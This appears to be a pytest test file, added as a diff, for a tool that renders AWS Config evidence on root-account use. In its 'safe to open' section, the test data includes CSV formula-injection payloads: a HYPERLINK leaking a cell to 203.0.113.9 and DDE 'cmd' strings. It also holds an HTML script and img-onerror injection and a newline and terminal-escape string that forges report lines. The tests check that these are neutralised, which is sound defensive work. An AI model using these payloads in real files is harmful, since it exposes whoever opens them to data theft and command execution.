@@ -1,0 +1,409 @@
+"""Evidence an auditor can sign: exactly the rule asked for, every state Config records,
+files that are safe to open, the root use every format shows, a bounded period.
+
+Each account is a ConfigRecords: AWS Config answering by request, through a real boto3
+client checked against the API model."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import timedelta
+from html.parser import HTMLParser
+
+import pytest
+
+from root_account_usage.cli.main import main
+from root_account_usage.core.cloudtrail_evidence import RootActivity, apply_cloudtrail
+from root_account_usage.core.report import CredentialUse, RootCredentials
+from root_account_usage.core.verdict import decide
+from root_account_usage.history.collect import collect_evidence
+from root_account_usage.history.evidence import render_csv, render_html, render_json, render_text
+from tests.functional.history.records import (
+    ACCOUNT,
+    NOW,
+    REGION,
+    RULE,
+    SINCE,
+    UNTIL,
+    ConfigRecords,
+    day,
+    parameters,
+)
+
+ORG_RULE = f"OrgConfigRule-{RULE}-ab12cd34"
+PACK_RULE = f"{RULE}-conformance-pack-szsm1uv0w"
+RECENT = (
+    "Root console password was used at 2026-11-08T09:00:00Z, within the 7-day threshold; "
+    "report generated 2026-11-08T09:30:00Z."
+)
+NO_USE = "Root user has no recorded use of its console password or access keys; threshold 7 days."
+RENDERERS = {"json": render_json, "csv": render_csv, "text": render_text, "html": render_html}
+
+
+def collect(records: ConfigRecords, rule_name: str = RULE, **options):
+    return collect_evidence(
+        records.client(),
+        rule_name=rule_name,
+        account_id=records.account_id,
+        region=REGION,
+        since=options.pop("since", SINCE),
+        until=options.pop("until", UNTIL),
+        now=NOW,
+        sleep=lambda seconds: None,
+        **options,
+    )
+
+
+def document(records: ConfigRecords, rule_name: str = RULE):
+    return json.loads(render_json(collect(records, rule_name)))
+
+
+def csv_rows(report) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(render_csv(report))))
+
+
+# 1. Exactly the rule asked for -----------------------------------------------------
+
+
+def test_a_legacy_rule_saying_compliant_never_decides_the_rules_evidence():
+    # Config lists the legacy rule first, and its latest evaluation is the newer one.
+    records = ConfigRecords(
+        {f"legacy-{RULE}": parameters(), RULE: parameters()},
+        [
+            (SINCE - timedelta(days=2), {f"legacy-{RULE}": "COMPLIANT", RULE: "NON_COMPLIANT"}),
+            (day(3), {f"legacy-{RULE}": "COMPLIANT", RULE: "NON_COMPLIANT", "other": "COMPLIANT"}),
+        ],
+        {
+            f"legacy-{RULE}": ("COMPLIANT", NO_USE, day(9)),
+            RULE: ("NON_COMPLIANT", RECENT, day(8)),
+        },
+    )
+    evidence = document(records)
+    assert [rule["name"] for rule in evidence["rules"]] == [RULE]
+    [account] = evidence["accounts"]
+    assert account["current"]["compliance_type"] == "NON_COMPLIANT"
+    assert account["non_compliant_share"] == 1.0
+    assert account["timeline"] == [
+        {"start": "2026-11-01T00:00:00Z", "end": "2026-11-11T00:00:00Z", "state": "NON_COMPLIANT"}
+    ]
+    assert evidence["summary"]["ever_non_compliant"] == [ACCOUNT]
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        f"legacy-{RULE}",
+        f"{RULE}-v2",
+        f"my-{RULE}",
+        f"OrgConfigRule-{RULE}",  # no suffix
+        f"OrgConfigRule-{RULE}-AB12CD34",  # AWS's suffixes are lowercase
+        f"OrgConfigRule-{RULE}-v2-ab12cd34",  # the organization rule {RULE}-v2
+        f"{RULE}-conformance-pack",
+        f"{RULE}-v2-conformance-pack-szsm1uv0w",
+        f"x{RULE}-conformance-pack-szsm1uv0w",
+    ],
+)
+def test_names_that_merely_contain_the_rule_are_other_rules(other):
+    records = ConfigRecords(
+        {other: parameters()},
+        [(day(1), {other: "COMPLIANT"})],
+        {other: ("COMPLIANT", NO_USE, day(1))},
+    )
+    evidence = document(records)
+    assert evidence["rules"] == []
+    [account] = evidence["accounts"]
+    assert account["rule_name"] is None
+    assert account["current"] is None
+    assert any("No AWS Config rule" in note for note in evidence["notes"])
+
+
+def test_each_matched_rule_is_shown_separately_with_its_own_verdict():
+    records = ConfigRecords(
+        {ORG_RULE: parameters(), RULE: parameters(ThresholdDays="30"), PACK_RULE: parameters()},
+        [
+            (SINCE - timedelta(days=1), {ORG_RULE: "COMPLIANT", RULE: "COMPLIANT"}),
+            (day(4), {ORG_RULE: "COMPLIANT", RULE: "NON_COMPLIANT", PACK_RULE: "COMPLIANT"}),
+        ],
+        {
+            ORG_RULE: ("COMPLIANT", NO_USE, day(9)),
+            RULE: ("NON_COMPLIANT", RECENT, day(8)),
+            PACK_RULE: ("COMPLIANT", NO_USE, day(9)),
+        },
+    )
+    report = collect(records)
+    evidence = json.loads(render_json(report))
+    by_rule = {a["rule_name"]: a for a in evidence["accounts"]}
+    assert sorted(by_rule) == sorted([ORG_RULE, RULE, PACK_RULE])
+    assert by_rule[ORG_RULE]["non_compliant_share"] == 0.0
+    assert by_rule[RULE]["non_compliant_share"] == pytest.approx(0.575)
+    assert by_rule[RULE]["threshold_days"] == 30
+    assert by_rule[PACK_RULE]["state_at_start"] is None  # it came with the pack, on day 4
+    assert by_rule[PACK_RULE]["timeline"][0]["state"] == "UNKNOWN"
+    assert {a["current"]["compliance_type"] for a in evidence["accounts"]} == {
+        "COMPLIANT",
+        "NON_COMPLIANT",
+    }
+    current_rows = {r["rule_name"]: r["state"] for r in csv_rows(report) if r["kind"] == "current"}
+    assert current_rows == {
+        ORG_RULE: "COMPLIANT",
+        RULE: "NON_COMPLIANT",
+        PACK_RULE: "COMPLIANT",
+    }
+    text = render_text(report)
+    assert f"{RULE}, threshold 30 days" in text
+    assert f"{ORG_RULE}, threshold 7 days" in text
+
+
+# 2. Every state Config records --------------------------------------------------------
+
+
+class _Page(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.tags: list[str] = []
+        self.external: list[str] = []
+        self.segments: dict[str, str] = {}  # state -> fill colour
+        self.legend: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        values = dict(attrs)
+        self.external += [values[a] for a in ("src", "href") if values.get(a)]
+        if tag == "rect" and "data-state" in values:
+            self.segments[values["data-state"]] = values["fill"]
+        if tag == "span" and values.get("class") == "key":
+            self.legend.append(values.get("data-state", ""))
+
+
+STATES = (
+    "COMPLIANT",
+    "NON_COMPLIANT",
+    "UNABLE_TO_EVALUATE",
+    "NOT_APPLICABLE",
+    "INSUFFICIENT_DATA",
+    "UNKNOWN",
+)
+
+
+def every_state_records() -> ConfigRecords:
+    """A period that passes through each state Config records, ending NOT_APPLICABLE."""
+    return ConfigRecords(
+        {RULE: parameters()},
+        [
+            (day(1), {RULE: "COMPLIANT"}),
+            (day(2), {RULE: "NON_COMPLIANT"}),
+            (day(3), {RULE: "INSUFFICIENT_DATA"}),
+            (day(4), {"other": "COMPLIANT"}),  # the rule was gone: no record
+            (day(5), {RULE: "NOT_APPLICABLE"}),
+        ],
+        {RULE: ("NOT_APPLICABLE", "Not an account resource.", day(5))},
+    )
+
+
+@pytest.mark.parametrize("fmt", sorted(RENDERERS))
+def test_every_state_config_records_renders_in_every_format(fmt):
+    report = collect(every_state_records())
+    rendered = RENDERERS[fmt](report)
+    for state in ("NOT_APPLICABLE", "INSUFFICIENT_DATA", "NON_COMPLIANT", "COMPLIANT"):
+        assert state in rendered
+
+
+def test_a_latest_evaluation_that_is_not_applicable_is_read_not_filtered_out():
+    [account] = json.loads(render_json(collect(every_state_records())))["accounts"]
+    assert account["current"]["compliance_type"] == "NOT_APPLICABLE"
+
+
+def test_each_state_has_its_own_colour_and_legend_entry_in_html():
+    page = _Page()
+    page.feed(render_html(collect(every_state_records())))
+    assert page.legend == list(STATES)
+    assert set(page.segments) == set(STATES) - {"UNABLE_TO_EVALUATE"}
+    assert len(set(page.segments.values())) == len(page.segments)  # one colour each
+
+
+def test_a_state_config_may_add_one_day_is_shown_as_written():
+    records = every_state_records()
+    records.items += ConfigRecords({}, [(day(6), {RULE: "SOMETHING_NEW"})], {}).items
+    page = _Page()
+    page.feed(render_html(collect(records)))
+    assert page.legend == [*STATES, "SOMETHING_NEW"]
+    assert "SOMETHING_NEW" in page.segments
+
+
+# 3. Files that are safe to open ------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "\n=1+2",
+    " =1+2",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_never_start_a_formula(formula):
+    records = ConfigRecords(
+        {RULE: parameters()},
+        [(day(1), {RULE: "NON_COMPLIANT"})],
+        {RULE: ("NON_COMPLIANT", formula, day(1))},
+    )
+    rows = list(csv.reader(io.StringIO(render_csv(collect(records)))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + formula in cells  # kept, and neutralised with OWASP's leading quote
+    for cell in cells:
+        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
+
+
+def test_a_rule_name_asked_for_that_looks_like_a_formula_is_neutralised_too():
+    records = ConfigRecords({}, [], {})
+    rows = list(csv.reader(io.StringIO(render_csv(collect(records, rule_name="=1+2")))))
+    assert rows[1][5] in ("", "'=1+2")
+
+
+FORGED = (
+    "ok\nAccount 999999999999 (us-east-1), root-account-usage, threshold 7 days\n"
+    "  current: COMPLIANT (2026-11-10T00:00:00Z): Root user has no recorded use\x1b[2J"
+)
+
+
+def test_a_newline_in_an_annotation_cannot_forge_a_line_of_text_evidence():
+    records = ConfigRecords(
+        {RULE: parameters()},
+        [(day(1), {RULE: "NON_COMPLIANT"})],
+        {RULE: ("NON_COMPLIANT", FORGED, day(1))},
+    )
+    text = render_text(collect(records))
+    lines = text.splitlines()
+    assert not any(line.startswith("Account 999999999999") for line in lines)
+    assert sum(line.startswith("Account ") for line in lines) == 1
+    assert "\x1b" not in text  # no terminal escape reaches the screen
+    assert "ok\\x0aAccount 999999999999" in text  # shown, escaped, on the one line
+
+
+def test_json_is_always_valid_even_when_rule_parameters_hold_nan_or_infinity():
+    records = ConfigRecords(
+        {RULE: '{"ThresholdDays": "7", "Weight": NaN, "Cap": Infinity, "Big": 1e999, "x": 0.5}'},
+        [(day(1), {RULE: "COMPLIANT"})],
+        {RULE: ("COMPLIANT", NO_USE, day(1))},
+    )
+    rendered = render_json(collect(records))
+
+    def refuse(constant):
+        raise ValueError(f"not JSON: {constant}")
+
+    evidence = json.loads(rendered, parse_constant=refuse)
+    assert evidence["rules"][0]["parameters"] == {
+        "ThresholdDays": "7",
+        "Weight": "NaN",
+        "Cap": "Infinity",
+        "Big": "1e999",
+        "x": 0.5,
+    }
+
+
+def test_html_escapes_what_aws_returned_and_stays_self_contained():
+    records = ConfigRecords(
+        {RULE: parameters(Note="</style><script>alert(1)</script>")},
+        [(day(1), {RULE: "NON_COMPLIANT"})],
+        {RULE: ("NON_COMPLIANT", '<img src="http://203.0.113.9/x.png" onerror=alert(1)>', day(1))},
+    )
+    page_html = render_html(collect(records))
+    page = _Page()
+    page.feed(page_html)
+    assert "script" not in page.tags
+    assert "img" not in page.tags
+    assert page.external == []
+    assert "&lt;img src=" in page_html
+
+
+# 4. The root use the latest evaluation names, in every format --------------------------
+
+
+def cloudtrail_driven_annotation() -> str:
+    """What the rule publishes when CloudTrail, not the report, shows the use."""
+    root = RootCredentials(ACCOUNT, (CredentialUse("password", None),))
+    verdict = decide(root, now=day(9), threshold_days=7, report_generated_at=day(9))
+    sign_in = RootActivity(
+        day(8, 13), "ConsoleLogin", "us-east-1", "2001:db8::" + "f" * 150, True, "us-east-1"
+    )
+    return apply_cloudtrail(verdict, [sign_in], now=day(9), threshold_days=7).annotation
+
+
+@pytest.mark.parametrize("fmt", sorted(RENDERERS))
+def test_a_non_compliant_verdict_cloudtrail_decided_shows_the_use_in_every_format(fmt):
+    annotation = cloudtrail_driven_annotation()
+    assert len(annotation) <= 256
+    records = ConfigRecords(
+        {RULE: parameters(CloudTrailEvidence="true")},
+        [(day(9), {RULE: "NON_COMPLIANT"})],
+        {RULE: ("NON_COMPLIANT", annotation, day(9))},
+    )
+    report = collect(records)
+    rendered = RENDERERS[fmt](report)
+    assert "none seen" not in rendered
+    if fmt == "csv":
+        [current] = [row for row in csv_rows(report) if row["kind"] == "current"]
+        assert current["root_use_credential"].startswith("CloudTrail: console sign-in from")
+        assert current["root_use_time"] == "2026-11-09T13:00:00Z"
+    elif fmt == "json":
+        use = json.loads(rendered)["accounts"][0]["most_recent_root_use"]
+        assert use["credential"].startswith("CloudTrail: console sign-in from 2001:db8::")
+        assert use["time"] == "2026-11-09T13:00:00Z"
+    else:
+        assert "CloudTrail: console sign-in from 2001:db8::" in rendered
+        assert "2026-11-09T13:00:00Z" in rendered
+
+
+# 5. Bounded work ------------------------------------------------------------------------
+
+
+def test_a_period_from_year_one_reads_at_most_what_config_can_hold():
+    records = ConfigRecords(
+        {RULE: parameters()}, [(day(1), {RULE: "COMPLIANT"})], {}, max_calls=400
+    )
+    from datetime import UTC, datetime
+
+    report = collect(records, since=datetime(1, 1, 1, tzinfo=UTC))
+    windows = records.calls.count("GetResourceConfigHistory") - 1  # less the state at start
+    assert windows == 366  # 2,557 days in seven-day windows
+    assert report.since == NOW - timedelta(days=2557)
+    assert any("2,557 days" in note for note in report.notes)
+    assert "2,557 days" in render_html(report)
+
+
+def test_cli_period_far_in_the_past_or_future_is_cut_and_said(capsys):
+    assert (
+        main(
+            [
+                "history",
+                "--demo",
+                "--since",
+                "0001-01-01",
+                "--until",
+                "9999-12-31",
+                "--format",
+                "json",
+            ]
+        )
+        == 0
+    )
+    evidence = json.loads(capsys.readouterr().out)
+    notes = " ".join(evidence["notes"])
+    assert "2,557 days" in notes
+    assert "after this report was made" in notes
+
+
+@pytest.mark.parametrize("until", ["0001-01-05", "1990-01-01T00:00:00Z"])
+def test_cli_period_wholly_before_what_config_holds_is_one_usage_line(until, capsys):
+    with pytest.raises(SystemExit) as exit_:
+        main(["history", "--demo", "--until", until])
+    assert exit_.value.code == 2
+    err = capsys.readouterr().err
+    assert "--since/--until: the period lies entirely outside" in err
+    assert err.count("\n") == 1
